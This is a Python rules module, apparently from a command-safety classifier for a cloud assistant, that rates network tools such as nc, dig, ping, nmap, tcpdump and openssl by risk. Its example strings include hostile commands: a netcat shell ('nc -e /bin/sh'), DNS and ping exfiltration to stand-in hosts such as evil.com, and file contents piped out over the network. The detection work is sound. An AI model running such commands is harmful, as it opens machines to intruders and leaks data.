"""Programs that ask the network: dig, ping, nmap, nc, tcpdump, openssl, mail.

Sources: BIND's dig, iputils, nmap(1), ncat(1), tcpdump(1), openssl(1).
"""

from __future__ import annotations

import re

from cloud_assist.command.rules.engine.base import (
    MANY,
    Args,
    Call,
    Effect,
    Flags,
    Program,
    Rule,
    Ruling,
    names,
    ruled,
)
from cloud_assist.command.rules.engine.numbers import is_plain
from cloud_assist.command.rules.engine.sending import is_here, sends_output
from cloud_assist.command.syntax.parser import Part, Simple
from cloud_assist.findings import Code
from cloud_assist.models import Risk


def _netcat(call: Call) -> Ruling:
    args = Flags(
        values="-w -p -s -i -q -X -x -o -T -O -P -I -m -e -c --exec --sh-exec --lua-exec --output --hex-dump "
        "--proxy --wait",
        switches="-z -v -n -u -l -k -4 -6 -d -D -h -N -U -C -t -r",
    ).parse(call.args)
    if args.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        return ruled(
            call,
            Risk.DESTRUCTIVE,
            "network.nc.exec",
            "It gives everybody who connects access to a program on this machine.",
            Code.NETWORK_CODE,
        )
    if args.unclear or args.unknown or args.expanding or args.has("-o", "--output", "--hex-dump"):
        return ruled(call, Risk.UNKNOWN, "network.nc.option")
    if args.has("-h"):
        return ruled(call, Risk.READ_ONLY, "network.nc.help")
    if args.has("-z") and not args.has("-l"):
        outside = _probed(call, args.verbs[:1])
        return outside or ruled(call, Risk.READ_ONLY, "network.nc.probe", "It only tests whether the port is open.")
    if args.has("-l"):
        return ruled(call, Risk.MUTATING, "network.nc.listen", "It listens for connections.", Code.FOLLOWS)
    return ruled(call, Risk.MUTATING, "network.nc.send", "It sends its input to another machine.", Code.SENDS_DATA_OUT)


def _asked(call: Call) -> Ruling | None:
    """A name that is looked up reaches a stranger's server, with whatever was put into it."""
    batch = call.program in {"dig", "kdig"} and any(word.text[:2] == "-f" for word in call.args)
    piped = call.program in {"nslookup", "fping"} and _given_input(call)
    if batch or piped or any(sends_output(word) for word in call.args):
        return ruled(call, Risk.MUTATING, "network.ask.sends", "It sends the contents of a file.", Code.SENDS_DATA_OUT)
    if any(re.search("\0.*\\.", word.text) for word in call.args):
        text = "Part of the name that it looks up is only known at run time, and reaches an unknown server."
        return ruled(call, Risk.SENSITIVE, "network.ask.name", text, Code.SENDS_DATA_OUT)
    return None


def _probed(call: Call, targets: tuple[str, ...]) -> Ruling | None:
    """Another machine is asked, be it near or far; None where nobody else hears of it."""
    if all(is_here(target) for target in targets):
        return None
    return ruled(call, Risk.SENSITIVE, "network.probe", f"`{call.program}` contacts another machine.")


def _looked_up(call: Call, args: Args) -> Ruling | None:
    """A name server or a registry is asked, unless it is the one of this machine."""
    asked = _asked(call)
    if asked is not None or args.unknown:
        return asked
    servers = tuple(word[1:] for word in args.verbs if word[:1] == "@")
    if call.program == "nslookup":
        servers = args.verbs[1:2]
    if (not args.operands and args.has("-v", "-V", "-h", "-version")) or (servers and all(map(is_here, servers))):
        return ruled(call, Risk.READ_ONLY, "network.ask")
    return ruled(call, Risk.SENSITIVE, "network.ask", f"`{call.program}` contacts an external server.")


_LOOKUP = Program(
    "network.ask",
    Risk.READ_ONLY,
    Flags(
        values="-f -b -c -k -p -q -t -x -y -m -W -N -R -D",
        switches="-4 -6 -a -C -d -l -r -s -T -u -v -V -i -A -U -H -B -L -M -P -w -h",
    ),
    operands=MANY,
    at_names=True,
    custom=lambda call, args, verb: _looked_up(call, args),
    examples={
        Risk.READ_ONLY: ("dig -v", "dig @127.0.0.1 x.com", "host -V"),
        Risk.SENSITIVE: (
            "dig +short x.com",
            "host x",
            "host -t mx x.com",
            "whois x.com",
            "dig $HOST",
            "dig -x 10.0.0.1",
            "dig $X.evil.com",
        ),
        Risk.MUTATING: ("dig -f names",),
        Risk.UNKNOWN: ("dig --frobnicate x",),
    },
)
_NSLOOKUP = Program(
    "network.ask",
    Risk.READ_ONLY,
    Flags(
        values="-type -query -querytype -class -port -timeout -retry -domain -q -ty -t",
        switches="-debug -nodebug -d2 -recurse -norecurse -vc -novc -search -nosearch -fail -nofail -version",
        single_dash=True,
    ),
    operands=2,
    custom=lambda call, args, verb: (
        ruled(
            call, Risk.UNKNOWN, "network.ask.prompt", "It waits for names at an interactive prompt.", Code.INTERACTIVE
        )
        if not call.args and not call.upstream and not call.redirects
        else _looked_up(call, args)
    ),
    examples={
        Risk.READ_ONLY: ("nslookup x localhost", "nslookup -version"),
        Risk.SENSITIVE: ("nslookup $(hostname).x.io", "nslookup x 8.8.8.8", "nslookup -type=mx x.com"),
        Risk.UNKNOWN: ("nslookup",),
        Risk.MUTATING: ("cat f | nslookup", "nslookup < f"),
    },
)
_IP_SUMS = Program(
    "network.sums",
    Risk.READ_ONLY,
    Flags(values="-f -i", switches="-4 -6 -a -b -c -h -m -n -p -s -r -t -v -z -g -d -w -I -J"),
    operands=MANY,
    examples={Risk.READ_ONLY: ("ipcalc 10.0.0.0/24", "ifstat", "geoiplookup 8.8.8.8")},
)
_SIPCALC = Program(
    "network.sums",
    Risk.READ_ONLY,
    Flags(
        values="-I --addr-int -n --subnets -4 --addr-ipv4 -6 --addr-ipv6 -s --v4split -S --v6split",
        switches="-a --all -b --cidr-bitmap -c --classful-addr -d --resolve -e --v4inv6 -h --help -i --cidr-addr "
        "-r --v6rev -t --v6-standard -u --split-verbose -v --version -w --wildcard -x --classful-bitmap",
    ),
    operands=MANY,
    effects=(Effect("-d --resolve", Risk.SENSITIVE, "It asks a name server."),),
    examples={Risk.READ_ONLY: ("sipcalc -a 10.0.0.0/24",), Risk.SENSITIVE: ("sipcalc -d example.com",)},
)
_PROBE = Program(
    "network.probe",
    Risk.READ_ONLY,
    Flags(
        values="-c -p -t -q -w -i -s -m -W -I -Q -S -k -C -d -T -f -z -a -y -B -P -G -o -L -u -R --report-cycles "
        "--interval --port --psize --first-ttl --max-ttl",
        switches="-4 -6 -v -x -e -D -M -A -H -N -r -n -b -l --report --report-wide --no-dns --tcp --udp --json "
        "--csv --xml --raw --curses --help",
    ),
    operands=MANY,
    custom=lambda call, args, verb: (
        ruled(call, Risk.UNKNOWN, "network.probe.takes", "It claims an address of the network for this machine.")
        if call.program == "arping" and args.has("-U", "-A", "-S", "-s", "-P")
        else _asked(call)
        or (None if args.unknown else _probed(call, tuple(w.text for w in args.operands if not is_plain(w.text))))
    ),
    examples={
        Risk.READ_ONLY: ("traceroute localhost", "fping 127.0.0.1"),
        Risk.SENSITIVE: (
            "mtr -r 10.0.0.1",
            "fping db",
            "traceroute example.com",
            "mtr -r -c 10 example.com",
            "ssh-keyscan h.example.com",
            "tracepath $H",
        ),
        Risk.MUTATING: ("cat f | fping",),
        Risk.UNKNOWN: ("arping -U 10.0.0.9", "arping -c 3 -A 10.0.0.9", "mtr --frobnicate 10.0.0.1"),
    },
)
_AUDITS = Program(
    "network.audit",
    Risk.UNKNOWN,
    help="--help --version",
    examples={Risk.UNKNOWN: ("testssl.sh x.com", "bandwhich", "dns-sd -R a _http._tcp . 80")},
)
_SPEED = Program(
    "network.speed",
    Risk.SENSITIVE,
    texts={"": "It sends and fetches data to measure the line."},
    examples={Risk.SENSITIVE: ("speedtest-cli --simple", "speedtest", "sslscan x.com")},
)
_PING = Program(
    "network.ping",
    Risk.READ_ONLY,
    Flags(
        values="-c -i -w -W -s -t -I -M -p -Q -S -l -m -T",
        switches="-4 -6 -A -a -b -B -D -f -n -O -q -r -R -U -v -V -o",
    ),
    operands=1,
    custom=lambda call, args, verb: _ping(call, args),
    effects=(Effect("-f", Risk.MUTATING, "`ping -f` floods the other machine."),),
    examples={
        Risk.READ_ONLY: ("ping -c 3 localhost", "ping localhost", "ping6 -c1 ::1", "ping -V"),
        Risk.SENSITIVE: (
            "ping -c 3 db",
            "ping -c 4 10.0.0.1",
            "ping -c 4 8.8.8.8",
            "ping example.com",
        ),
        Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x"),
    },
)


def _ping(call: Call, args: Args) -> Ruling | None:
    asked = _asked(call) or _probed(call, args.verbs)
    if args.has("-c", "-w", "-o", "-V"):
        return asked
    risk = Risk.READ_ONLY if asked is None else asked.risk
    return ruled(call, risk, "network.ping", "`ping` runs until it is stopped.", Code.FOLLOWS)


_NMAP = Program(
    "network.scan",
    Risk.SENSITIVE,
    Flags(
        values="-p -oN -oX -oG -oA -oS -iL --script --script-args -T -D -S -e -g --top-ports --exclude -m "
        "--min-rate --max-rate --datadir -iR -b",
        switches="-V -h",
        single_dash=True,
    ),
    texts={"": "It asks other machines which ports are open."},
    custom=lambda call, args, verb: (
        ruled(call, Risk.READ_ONLY, "network.scan.version")
        if call.args and set(call.words) <= {"-V", "--version", "-h", "--help"}
        else None
    ),
    effects=(
        Effect(
            "-oN -oX -oG -oA -oS -oM -oJ -oH --append-output",
            Risk.MUTATING,
            "`nmap` writes its report to a file.",
            value="(?!-$).*",
        ),
        Effect(
            "--script --script-args --datadir -sC -A -b -sI -D -S --interactive --resume --servicedb --versiondb",
            Risk.UNKNOWN,
            "Scripts of `nmap` can attack what they find.",
        ),
    ),
    examples={
        Risk.READ_ONLY: ("nmap -V",),
        Risk.SENSITIVE: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
        Risk.MUTATING: ("nmap -oN f host",),
        Risk.UNKNOWN: ("nmap --script vuln host", "nmap --interactive"),
    },
    operands=MANY,
)


_NO_CAPTURE = {
    "tcpdump": names(
        "-r -D --list-interfaces -J --list-time-stamp-types -L --list-data-link-types -d -h --help --version"
    ),
    "tshark": names(
        "-r --read-file -D --list-interfaces --list-time-stamp-types -L --list-data-link-types -G -h --help -v "
        "--version"
    ),
    "ngrep": names("-I -h -V"),
}
"""Options with which each program reads a file, or only lists."""


def _captures(call: Call, args: Args, verb: str) -> Ruling | None:
    """What passes by on the network is read, unless a file is; ngrep reads one with `-I`."""
    if args.has(*_NO_CAPTURE[call.program]) or args.unknown:
        return None
    ends = args.has(*("-n",) if call.program == "ngrep" else ("-c", "-a", "--autostop"))
    text = "It reads network traffic, including passwords."
    codes = (Code.REVEALS_SECRET,) if ends else (Code.REVEALS_SECRET, Code.FOLLOWS)
    return ruled(call, Risk.SENSITIVE, "network.capture.live", text, *codes)


_TCPDUMP = Program(
    "network.capture",
    Risk.READ_ONLY,
    Flags(
        values="-B --buffer-size -c -C -E -F -G -i --interface -j --time-stamp-type --time-stamp-precision -m -M -Q "
        "--direction -r -s --snapshot-length -T -V -w -W -y --linktype -z -Z --relinquish-privileges",
        switches="-# --number -A -b -d -D --list-interfaces -e -f -h --help -H -I --monitor-mode -J "
        "--list-time-stamp-types -K --dont-verify-checksums -l -L --list-data-link-types --lengths -n -N -O "
        "--no-optimize -p --no-promiscuous-mode -q -S --absolute-tcp-sequence-numbers -t -u -U --packet-buffered -v "
        "-x -X --count --print --immediate-mode --micro --nano --version",
    ),
    effects=(
        Effect("-w", Risk.MUTATING, "It writes what it captures to a file.", value="(?!-$).*"),
        Effect("-z", Risk.UNKNOWN, "`tcpdump -z` runs a program on each file."),
    ),
    custom=_captures,
    examples={
        Risk.READ_ONLY: ("tcpdump -r f", "tcpdump -D", "tcpdump -nr f -c 5 icmp"),
        Risk.SENSITIVE: ("tcpdump -i eth0 -c 10", "tcpdump -nnvvXSs 0 -c1 icmp", "tcpdump -e -i eth0"),
        Risk.MUTATING: ("tcpdump -w f", "tcpdump -ew f", "tcpdump -ne -w f port 80"),
        Risk.UNKNOWN: ("tcpdump -G 1 -w f -z ./x",),
    },
    operands=MANY,
)
_TSHARK = Program(
    "network.capture",
    Risk.READ_ONLY,
    Flags(
        values="-i --interface -f -s --snapshot-length -y --linktype --time-stamp-type -c -a --autostop -b "
        "--ring-buffer -B --buffer-size -r --read-file -R --read-filter -Y --display-filter -d --decode-as -H "
        "-w -C -F -O -S -T -j -J -e -E -t -u -U -X -z -K -o -m -M -N -W -G --export-objects "
        "--export-tls-session-keys --capture-comment --enable-protocol --disable-protocol --only-protocols "
        "--enable-heuristic --disable-heuristic --hexdump --log-level --log-domain --log-file --log-fatal "
        "--compress --temp-dir --elastic-mapping-filter --selected-frame",
        switches="-p --no-promiscuous-mode -I --monitor-mode -D --list-interfaces -L --list-data-link-types "
        "--list-time-stamp-types --no-optimize -2 -n -P --print -V -A -x -l -q -Q -g --color --no-duplicate-keys "
        "--disable-all-protocols --update-interval -h --help -v --version",
    ),
    effects=(
        Effect("-w", Risk.MUTATING, "It writes what it captures to a file.", value="(?!-$).*"),
        Effect("-X", Risk.UNKNOWN, "`tshark -X` can load a script."),
        Effect("--export-objects --export-tls-session-keys --log-file --temp-dir", Risk.MUTATING, "It writes files."),
    ),
    custom=_captures,
    examples={
        Risk.READ_ONLY: ("tshark -r f", "tshark -r f -T fields -e ip.src", "tshark -q -z conv,tcp -r f"),
        Risk.SENSITIVE: ("tshark -i eth0 -c 10", "tshark"),
        Risk.MUTATING: ("tshark -w f", "tshark -r f --export-objects http,d"),
        Risk.UNKNOWN: ("tshark -X lua_script:x.lua -r f",),
    },
    operands=MANY,
)
_NGREP = Program(
    "network.capture",
    Risk.READ_ONLY,
    Flags(
        values="-n -A -I -O -d -W -c -F -s -S -P -K",
        switches="-h -V -X -i -v -w -x -e -q -l -N -p -t -T -M -D -R -C",
    ),
    effects=(
        Effect("-O", Risk.MUTATING, "It writes what it captures to a file."),
        Effect("-K", Risk.DESTRUCTIVE, "`ngrep -K` ends the connections that match."),
    ),
    custom=_captures,
    examples={
        Risk.READ_ONLY: ("ngrep -q -I dump.pcap GET",),
        Risk.SENSITIVE: ("ngrep -q GET port 80", "ngrep -w -e -d eth0 x"),
        Risk.MUTATING: ("ngrep -O f x", "ngrep -eO f x"),
        Risk.DESTRUCTIVE: ("ngrep -K 1 x port 80",),
    },
    operands=MANY,
)
_OPENSSL_READS = (
    "version, ciphers, help, list, errstr, s_client, s_time, verify, x509, crl, asn1parse, dgst, sha256, "
    "sha1, md5, prime, info, ocsp, crl2pkcs7, sess_id, storeutl, nseq"
)
_OPENSSL = Program(
    "network.openssl",
    Risk.MUTATING,
    Flags(
        values="-in -out -connect -servername -CAfile -CApath -cert -key -keyout -inform -outform -passin -passout "
            "-days -subj -config -engine -provider -provider-path -signkey -CA -CAkey -host -port -starttls "
            "-cipher -checkend -sess_out -keylogfile -writerand -msgfile -alpn -name -sign -verify -signature "
            "-rand -outdir -respout -reqout -CAserial -set_serial -extfile -addtrust -proxy -attime "
            "-verify_hostname -verify_email -verify_ip -ext -offset -length -bytes -seconds -multi -groups "
            "-curves -sigalgs -ciphersuites -verify_depth -xmpphost -nameopt -certopt -CAstore -trusted "
            "-untrusted -CRLfile -strparse -macopt -mac -hmac -sigopt -prverify",
        switches="-noout -text -dates -startdate -enddate -subject -issuer -serial -fingerprint -modulus -pubkey "
            "-email -hash -subject_hash -issuer_hash -ocsp_uri -ocspid -alias -purpose -sha1 -sha256 -sha384 "
            "-sha512 -md5 -sha224 -nodes -info -showcerts -brief -quiet -ign_eof -no_ign_eof -crlf -tls1 "
            "-tls1_1 -tls1_2 -tls1_3 -no_tls1 -no_tls1_1 -no_tls1_2 -no_tls1_3 -state -debug -msg -prexit "
            "-status -verify_return_error -partial_chain -crl_check -crl_check_all -check -pubin -pubout -a "
            "-v -V -s -b -d -e -f -o -p -r -hex -binary -c -i -print_certs -nokeys -clcerts -cacerts -base64 "
            "-no_alt_chains -trusted_first -x509_strict -tlsextdebug -6 -4 -psk -digest-commands "
            "-cipher-commands -digest-algorithms -cipher-algorithms -stdname -evp -elapsed -mr -reconnect",
        single_dash=True,
    ),
    verbs={
        **{path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
        **dict.fromkeys(("rand", "passwd"), Risk.SENSITIVE),
    },
    effects=(
        Effect("-out -keyout -sess_out -keylogfile -writerand -respout -reqout -msgfile -CAcreateserial -CA -sign "
            "-signkey",
            Risk.MUTATING, "`openssl` writes a file or signs.", value="(?!/dev/null$|-$).*"),
        Effect("-engine -provider-path -config", Risk.UNKNOWN, "`openssl` would load code from another place."),
        Effect("-provider", Risk.UNKNOWN, "`openssl` would load code from another place.",
            value="(?!(?:default|legacy|fips|base|null)$).*"),
    ),
    custom=lambda call, args, verb: _openssl_key(call, args),
    help="-help --help",
    examples={
        Risk.READ_ONLY: ("openssl version", "openssl x509 -in cert.pem -noout -dates",
            "openssl s_client -connect localhost:443 -servername x", "openssl rsa -in k.pem -noout -check",
            "openssl dgst -sha256 f"),
        Risk.SENSITIVE: ("openssl rand -hex 32", "openssl passwd -6 x", "echo | openssl s_client -connect x:443",
            "openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
        Risk.MUTATING: ("cat f | openssl s_client -connect x:443", "openssl genrsa -out k.pem 2048",
            "openssl req -new -key k -out c",
            "openssl x509 -in a -out b", "openssl x509 -in a --out b", "openssl s_client -connect x:443 < f"),
        Risk.UNKNOWN: ("openssl dgst --engine ./x f", "openssl x509 -provider ./x -in a"),
    },)  # fmt: skip


def _openssl(call: Call) -> Ruling:
    """`--out` is `-out` to openssl."""
    args = tuple(w._replace(text=w.text[1:]) if w.text[:2] == "--" and len(w.text) > 2 else w for w in call.args)
    return _OPENSSL(call._replace(args=args))


def _given_input(call: Call) -> bool:
    """Whether standard input is a file's or a program's text, other than plain words."""
    if any(r.operator == "<" and r.target.text != "/dev/null" for r in call.redirects):
        return True
    return bool(call.upstream) and not _plain_input(call.upstream[-1])


def _plain_input(part: Part) -> bool:
    """Whether a command before a pipe prints nothing but its own words (`echo Q | openssl s_client …`)."""
    return (
        isinstance(part, Simple) and bool(part.words) and part.words[0].text in {"echo", "printf", "true", ":", "sleep"}
    )


def _openssl_key(call: Call, args: Args) -> Ruling | None:
    verb = args.verbs[0] if args.operands else ""
    if verb == "s_client" and _given_input(call):
        text = "It sends its input to another machine."
        return ruled(call, Risk.MUTATING, "network.openssl.send", text, Code.SENDS_DATA_OUT)
    if verb in {"s_client", "s_time"} and not args.has("-help"):
        where = args.value("-connect") or args.value("-host") or (args.verbs[1] if args.operands[1:] else "localhost")
        return _probed(call, (where,))
    if verb == "ocsp" and args.has("-url", "-host"):
        return _probed(call, ("",))
    if verb == "storeutl":
        text = "It prints the contents of a store, including keys."
        return ruled(call, Risk.SENSITIVE, "network.openssl.key", text, Code.REVEALS_SECRET)
    if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
        "-out", "-new", "-newkey", "-export", "-x509"
    ):
        return None
    if args.has("-noout", "-pubout") or verb == "pkcs7" or (verb == "req" and args.has("-in")):
        return ruled(call, Risk.READ_ONLY, "network.openssl.show")
    if args.has("-in"):
        return ruled(call, Risk.SENSITIVE, "network.openssl.key", "It prints a private key.", Code.REVEALS_SECRET)
    return None


_MAIL = Program("network.mail", Risk.DESTRUCTIVE, examples={Risk.DESTRUCTIVE: ("mail -s hi a@b.c", "sendmail a@b")})

RULES: dict[str, Rule] = {
    **dict.fromkeys(
        (
            "nc",
            "ncat",
            "netcat",
        ),
        _netcat,
    ),
    **dict.fromkeys(names("dig host kdig drill delv whois"), _LOOKUP),
    "nslookup": _NSLOOKUP,
    **dict.fromkeys(names("ifstat ipcalc geoiplookup"), _IP_SUMS),
    **dict.fromkeys(names("traceroute traceroute6 tracepath mtr fping tcpping arping dnstracer ssh-keyscan"), _PROBE),
    "sipcalc": _SIPCALC,
    **dict.fromkeys(names("speedtest speedtest-cli sslscan avahi-browse"), _SPEED),
    **dict.fromkeys(names("testssl.sh bandwhich dns-sd"), _AUDITS),
    **dict.fromkeys(
        (
            "ping",
            "ping6",
        ),
        _PING,
    ),
    "nmap": _NMAP,
    "tcpdump": _TCPDUMP,
    "tshark": _TSHARK,
    "ngrep": _NGREP,
    "openssl": _openssl,
    **dict.fromkeys(names("mail mailx sendmail mutt msmtp swaks"), _MAIL),
}
EXAMPLES = {
    Risk.READ_ONLY: ("nc -zv localhost 80", "nc -zv 127.0.0.1 443"),
    Risk.SENSITIVE: ("nc -zv host 80", "nc -zv 10.0.0.1 443", "nc -zv example.com 443", 'nc -z "$H" 22'),
    Risk.MUTATING: ("nc host 80", "nc -l 80"),
    Risk.DESTRUCTIVE: ("nc -e /bin/sh h 1",),
}
